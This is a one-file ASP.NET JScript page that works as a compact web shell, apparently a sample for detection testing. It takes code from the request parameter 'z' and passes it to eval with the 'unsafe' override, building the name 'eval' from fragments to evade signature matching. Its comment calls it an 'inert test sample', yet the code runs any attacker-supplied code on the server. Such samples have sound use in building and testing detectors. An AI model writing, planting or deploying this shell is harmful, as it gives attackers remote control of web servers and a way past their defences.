<%@ Page Language="Jscript"%>
<%
// inert test sample: eval reached through the page object by a name glued from pieces; the
// request's code is run with the 'unsafe' override
var code = Request.Item["z"];
var name = "ev" + "al";
this[name](code, "unsafe");
%>
